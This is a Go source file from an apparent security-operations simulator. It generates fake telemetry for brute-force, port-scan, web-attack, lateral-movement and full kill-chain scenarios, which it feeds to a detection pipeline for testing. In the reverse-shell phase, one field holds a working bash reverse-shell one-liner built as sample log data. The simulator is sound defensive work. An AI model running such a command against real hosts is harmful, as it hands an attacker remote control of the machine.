package simulate

import (
	"context"
	"fmt"
	"sort"
	"sync"
	"time"

	"github.com/brianvoe/gofakeit/v6"
	"github.com/google/uuid"
	"go.uber.org/zap"

	"socforge/core"
	"socforge/service"
)

// Ingester feeds generated events through the detection pipeline.
type Ingester interface {
	IngestBatch(ctx context.Context, events []*core.Event, source string) (*service.BatchResult, error)
}

// Run statuses.
const (
	RunStatusRunning   = "running"
	RunStatusCompleted = "completed"
	RunStatusFailed    = "failed"
)

// Params configures one simulation run.
type Params struct {
	Scenario        string `json:"scenario"`
	Intensity       string `json:"intensity"`
	DurationSeconds int    `json:"duration_seconds"`
	IncludeBenign   bool   `json:"include_benign"`
}

// Run records the state of one simulation.
type Run struct {
	ID              string    `json:"simulation_id"`
	Status          string    `json:"status"`
	Scenario        string    `json:"scenario"`
	StartedAt       time.Time `json:"started_at"`
	EventsGenerated int       `json:"events_generated"`
	AlertsTriggered int       `json:"alerts_triggered"`
}

// Engine generates synthetic attack telemetry and pushes it through the
// pipeline. Run state lives on the engine instance, not in package globals,
// so it is created and torn down with the service.
type Engine struct {
	ingester Ingester
	faker    *gofakeit.Faker
	logger   *zap.SugaredLogger

	mu   sync.Mutex
	runs map[string]*Run
}

// NewEngine creates a simulation engine. Seed zero gives a randomized faker;
// tests pass a fixed seed for reproducible scenarios.
func NewEngine(ingester Ingester, seed int64, logger *zap.SugaredLogger) *Engine {
	return &Engine{
		ingester: ingester,
		faker:    gofakeit.New(seed),
		logger:   logger,
		runs:     make(map[string]*Run),
	}
}

// Run generates a scenario's events and ingests them as one batch. The
// returned run is completed or failed; generation itself is synchronous.
func (e *Engine) Run(ctx context.Context, params Params) (*Run, error) {
	if !IsValidScenario(params.Scenario) {
		return nil, fmt.Errorf("unknown scenario %q", params.Scenario)
	}
	if params.DurationSeconds <= 0 {
		params.DurationSeconds = 120
	}

	run := &Run{
		ID:        uuid.New().String(),
		Status:    RunStatusRunning,
		Scenario:  params.Scenario,
		StartedAt: time.Now().UTC(),
	}
	e.mu.Lock()
	e.runs[run.ID] = run
	e.mu.Unlock()

	events := e.generate(run.ID, params)
	sort.SliceStable(events, func(i, j int) bool {
		return events[i].Timestamp.Before(events[j].Timestamp)
	})

	result, err := e.ingester.IngestBatch(ctx, events, "simulation")
	e.mu.Lock()
	defer e.mu.Unlock()
	if err != nil {
		run.Status = RunStatusFailed
		e.logger.Errorw("simulation failed", "simulation_id", run.ID, "error", err)
		return nil, fmt.Errorf("simulation %s failed: %w", run.ID, err)
	}

	run.Status = RunStatusCompleted
	run.EventsGenerated = len(events)
	run.AlertsTriggered = result.AlertsGenerated
	e.logger.Infow("simulation completed",
		"simulation_id", run.ID,
		"scenario", params.Scenario,
		"events", run.EventsGenerated,
		"alerts", run.AlertsTriggered,
	)
	return run, nil
}

// GetRun returns a run's state, or nil when the ID is unknown.
func (e *Engine) GetRun(id string) *Run {
	e.mu.Lock()
	defer e.mu.Unlock()
	if run, ok := e.runs[id]; ok {
		copied := *run
		return &copied
	}
	return nil
}

func (e *Engine) generate(simID string, params Params) []*core.Event {
	multiplier := map[string]int{"low": 1, "medium": 2, "high": 4}[params.Intensity]
	if multiplier == 0 {
		multiplier = 2
	}
	base := time.Now().UTC().Add(-time.Duration(params.DurationSeconds) * time.Second)

	var events []*core.Event
	if params.IncludeBenign {
		events = append(events, e.benignTraffic(simID, base, params.DurationSeconds, multiplier*5)...)
	}

	switch params.Scenario {
	case ScenarioSSHBruteForce:
		events = append(events, e.sshBruteForce(simID, base, params.DurationSeconds, multiplier)...)
	case ScenarioPortScan:
		events = append(events, e.portScan(simID, base, params.DurationSeconds, multiplier)...)
	case ScenarioWebAttack:
		events = append(events, e.webAttack(simID, base, params.DurationSeconds, multiplier)...)
	case ScenarioLateralMovement:
		events = append(events, e.lateralMovement(simID, base, params.DurationSeconds, multiplier)...)
	default:
		events = append(events, e.fullAttackChain(simID, base, params.DurationSeconds, multiplier)...)
	}
	return events
}

func (e *Engine) newEvent(simID, eventType, severity string, ts time.Time) *core.Event {
	event := core.NewEvent(eventType)
	event.Timestamp = ts
	event.Severity = severity
	event.SimulationID = simID
	return event
}

func (e *Engine) randomTS(base time.Time, windowSeconds int) time.Time {
	if windowSeconds < 1 {
		windowSeconds = 1
	}
	return base.Add(time.Duration(e.faker.Number(0, windowSeconds*1000)) * time.Millisecond)
}

func (e *Engine) benignTraffic(simID string, base time.Time, duration, count int) []*core.Event {
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		tpl := benignTemplates[e.faker.Number(0, len(benignTemplates)-1)]
		src := e.faker.RandomString(internalIPs)
		dst := e.faker.RandomString(append(internalIPs, externalIPs...))

		event := e.newEvent(simID, tpl.eventType, tpl.severity, e.randomTS(base, duration))
		event.SourceIP = src
		event.SourcePort = e.faker.Number(30000, 65535)
		event.DestIP = dst
		event.DestPort = e.faker.RandomInt(commonPorts)
		event.Protocol = e.faker.RandomString([]string{"TCP", "UDP", "HTTP", "HTTPS"})
		event.Action = tpl.action
		event.Hostname = e.faker.RandomString(hostnames)
		event.UserAccount = e.faker.RandomString(usernames)
		event.NormalizedMessage = fmt.Sprintf("Benign %s from %s to %s", tpl.eventType, src, dst)
		events = append(events, event)
	}
	return events
}

func (e *Engine) sshBruteForce(simID string, base time.Time, duration, multiplier int) []*core.Event {
	attacker := e.faker.RandomString(attackerIPs)
	target := e.faker.RandomString(internalIPs[:5])
	window := duration
	if window > 60 {
		window = 60
	}

	count := 15 * multiplier
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		event := e.newEvent(simID, "ssh_login_failed", core.SeverityMedium, e.randomTS(base, window))
		event.SourceIP = attacker
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = target
		event.DestPort = 22
		event.Protocol = "TCP"
		event.Action = "failed"
		event.UserAccount = e.faker.RandomString(usernames)
		event.Hostname = e.faker.RandomString(hostnames)
		event.NormalizedMessage = fmt.Sprintf("Failed SSH: %s → %s:22", attacker, target)
		event.RiskScore = 6.0
		events = append(events, event)
	}
	return events
}

func (e *Engine) portScan(simID string, base time.Time, duration, multiplier int) []*core.Event {
	attacker := e.faker.RandomString(attackerIPs)
	target := e.faker.RandomString(internalIPs[:5])
	window := duration
	if window > 30 {
		window = 30
	}

	count := 30 * multiplier
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		port := e.faker.Number(1, 65535)
		event := e.newEvent(simID, "port_scan", core.SeverityLow, e.randomTS(base, window))
		event.SourceIP = attacker
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = target
		event.DestPort = port
		event.Protocol = "TCP"
		event.Action = e.blockedOrAllowed(0.6)
		event.NormalizedMessage = fmt.Sprintf("Port scan: %s → %s:%d", attacker, target, port)
		event.RiskScore = 3.0
		events = append(events, event)
	}
	return events
}

func (e *Engine) webAttack(simID string, base time.Time, duration, multiplier int) []*core.Event {
	attacker := e.faker.RandomString(attackerIPs)
	target := e.faker.RandomString(internalIPs[:3])

	count := 6 * multiplier
	events := make([]*core.Event, 0, count)
	for i := 0; i < count; i++ {
		p := webPayloads[e.faker.Number(0, len(webPayloads)-1)]
		event := e.newEvent(simID, "web_exploit", core.SeverityHigh, e.randomTS(base, duration))
		event.SourceIP = attacker
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = target
		event.DestPort = e.faker.RandomInt([]int{80, 443, 8080})
		event.Protocol = "HTTP"
		event.Action = e.blockedOrAllowed(0.5)
		event.RawLog = p.rawLog
		event.NormalizedMessage = fmt.Sprintf("Web attack (%s): %s → %s", p.attackType, attacker, target)
		event.RiskScore = 7.5
		event.ExtraData = map[string]interface{}{"payload": p.payload, "attack_type": p.attackType}
		events = append(events, event)
	}
	return events
}

func (e *Engine) lateralMovement(simID string, base time.Time, duration, multiplier int) []*core.Event {
	compromised := e.faker.RandomString(internalIPs[:5])
	targetCount := multiplier + 2
	if targetCount > 5 {
		targetCount = 5
	}

	events := make([]*core.Event, 0, targetCount)
	for _, target := range e.sampleIPs(internalIPs[5:20], targetCount) {
		event := e.newEvent(simID, "lateral_movement", core.SeverityHigh, e.randomTS(base, duration))
		event.SourceIP = compromised
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = target
		event.DestPort = e.faker.RandomInt([]int{22, 3389, 5985})
		event.Protocol = "TCP"
		event.Action = "success"
		event.UserAccount = "root"
		event.Hostname = e.faker.RandomString(hostnames)
		event.NormalizedMessage = fmt.Sprintf("Lateral: %s → %s", compromised, target)
		event.RiskScore = 8.0
		events = append(events, event)
	}
	return events
}

// fullAttackChain walks the whole kill chain in six phases against a single
// target so correlation clusters the resulting alerts into one incident.
func (e *Engine) fullAttackChain(simID string, base time.Time, duration, multiplier int) []*core.Event {
	attacker := e.faker.RandomString(attackerIPs)
	target := e.faker.RandomString(internalIPs[:5])
	c2 := e.faker.RandomString(c2Servers)
	phase := duration / 6
	if phase < 1 {
		phase = 1
	}

	var events []*core.Event

	// Phase 1: reconnaissance.
	for i := 0; i < 25*multiplier; i++ {
		port := e.faker.Number(1, 1023)
		if e.faker.Number(0, 2) == 0 {
			port = e.faker.RandomInt(append(commonPorts, uncommonPorts...))
		}
		event := e.newEvent(simID, "port_scan", core.SeverityLow, e.randomTS(base, phase))
		event.SourceIP = attacker
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = target
		event.DestPort = port
		event.Protocol = "TCP"
		event.Action = e.blockedOrAllowed(0.7)
		event.NormalizedMessage = fmt.Sprintf("Port scan: %s → %s:%d", attacker, target, port)
		event.RiskScore = 3.0
		events = append(events, event)
	}

	// Phase 2: credential brute force, ending with a successful login.
	phase2 := base.Add(time.Duration(phase) * time.Second)
	for i := 0; i < 8*multiplier; i++ {
		event := e.newEvent(simID, "ssh_login_failed", core.SeverityMedium, e.randomTS(phase2, phase))
		event.SourceIP = attacker
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = target
		event.DestPort = 22
		event.Protocol = "TCP"
		event.Action = "failed"
		event.UserAccount = e.faker.RandomString(usernames)
		event.Hostname = e.faker.RandomString(hostnames)
		event.NormalizedMessage = fmt.Sprintf("Failed SSH login attempt from %s to %s", attacker, target)
		event.RiskScore = 6.0
		events = append(events, event)
	}
	login := e.newEvent(simID, "ssh_login_success", core.SeverityMedium, phase2.Add(time.Duration(phase-2)*time.Second))
	login.SourceIP = attacker
	login.DestIP = target
	login.DestPort = 22
	login.Protocol = "TCP"
	login.Action = "success"
	login.UserAccount = "root"
	login.Hostname = e.faker.RandomString(hostnames)
	login.NormalizedMessage = fmt.Sprintf("Successful SSH login from %s as root", attacker)
	login.RiskScore = 8.0
	events = append(events, login)

	// Phase 3: reverse shell back to the attacker.
	phase3 := base.Add(time.Duration(phase*2) * time.Second)
	shellPort := e.faker.RandomInt(uncommonPorts)
	shell := e.newEvent(simID, "reverse_shell", core.SeverityCritical, e.randomTS(phase3, phase/2))
	shell.SourceIP = target
	shell.SourcePort = e.faker.Number(40000, 65535)
	shell.DestIP = attacker
	shell.DestPort = shellPort
	shell.Protocol = "TCP"
	shell.Action = "established"
	shell.ProcessName = "/bin/bash"
	shell.CommandLine = fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", attacker, shellPort)
	shell.Hostname = e.faker.RandomString(hostnames)
	shell.NormalizedMessage = fmt.Sprintf("Reverse shell established from %s to %s:%d", target, attacker, shellPort)
	shell.RiskScore = 9.5
	events = append(events, shell)

	// Phase 4: periodic C2 beaconing with jitter.
	phase4 := base.Add(time.Duration(phase*3) * time.Second)
	interval := e.faker.Number(15, 45)
	for i := 0; i < 6*multiplier; i++ {
		jitter := e.faker.Float64Range(-0.2, 0.2) * float64(interval)
		ts := phase4.Add(time.Duration(float64(i*interval)+jitter) * time.Second)
		event := e.newEvent(simID, "c2_beacon", core.SeverityHigh, ts)
		event.SourceIP = target
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = c2
		event.DestPort = 443
		event.Protocol = "HTTPS"
		event.Action = "allowed"
		event.Hostname = e.faker.RandomString(hostnames)
		event.NormalizedMessage = fmt.Sprintf("C2 beacon: %s → %s:443 (interval ~%ds)", target, c2, interval)
		event.RiskScore = 8.0
		event.ExtraData = map[string]interface{}{"beacon_interval": interval, "jitter": jitter}
		events = append(events, event)
	}

	// Phase 5: pivoting to other internal hosts.
	phase5 := base.Add(time.Duration(phase*4) * time.Second)
	lateralCount := multiplier + 1
	if lateralCount > 3 {
		lateralCount = 3
	}
	for _, lt := range e.sampleIPs(internalIPs[5:15], lateralCount) {
		event := e.newEvent(simID, "lateral_movement", core.SeverityHigh, e.randomTS(phase5, phase))
		event.SourceIP = target
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = lt
		event.DestPort = 22
		event.Protocol = "TCP"
		event.Action = "success"
		event.UserAccount = "root"
		event.Hostname = e.faker.RandomString(hostnames)
		event.NormalizedMessage = fmt.Sprintf("Lateral movement: %s → %s via SSH", target, lt)
		event.RiskScore = 8.5
		events = append(events, event)
	}

	// Phase 6: exfiltration to the C2 server.
	phase6 := base.Add(time.Duration(phase*5) * time.Second)
	for i := 0; i < 3*multiplier; i++ {
		event := e.newEvent(simID, "data_exfiltration", core.SeverityCritical, e.randomTS(phase6, phase))
		event.SourceIP = target
		event.SourcePort = e.faker.Number(40000, 65535)
		event.DestIP = c2
		event.DestPort = 443
		event.Protocol = "HTTPS"
		event.Action = "allowed"
		event.Hostname = e.faker.RandomString(hostnames)
		event.NormalizedMessage = fmt.Sprintf("Suspicious data transfer: %s → %s (%dMB)", target, c2, e.faker.Number(5, 500))
		event.RiskScore = 9.0
		event.ExtraData = map[string]interface{}{"bytes_transferred": e.faker.Number(5_000_000, 500_000_000)}
		events = append(events, event)
	}

	return events
}

func (e *Engine) blockedOrAllowed(blockRate float64) string {
	if e.faker.Float64Range(0, 1) < blockRate {
		return "blocked"
	}
	return "allowed"
}

// sampleIPs picks n distinct addresses from the pool.
func (e *Engine) sampleIPs(pool []string, n int) []string {
	if n >= len(pool) {
		n = len(pool)
	}
	shuffled := make([]string, len(pool))
	copy(shuffled, pool)
	e.faker.ShuffleStrings(shuffled)
	return shuffled[:n]
}
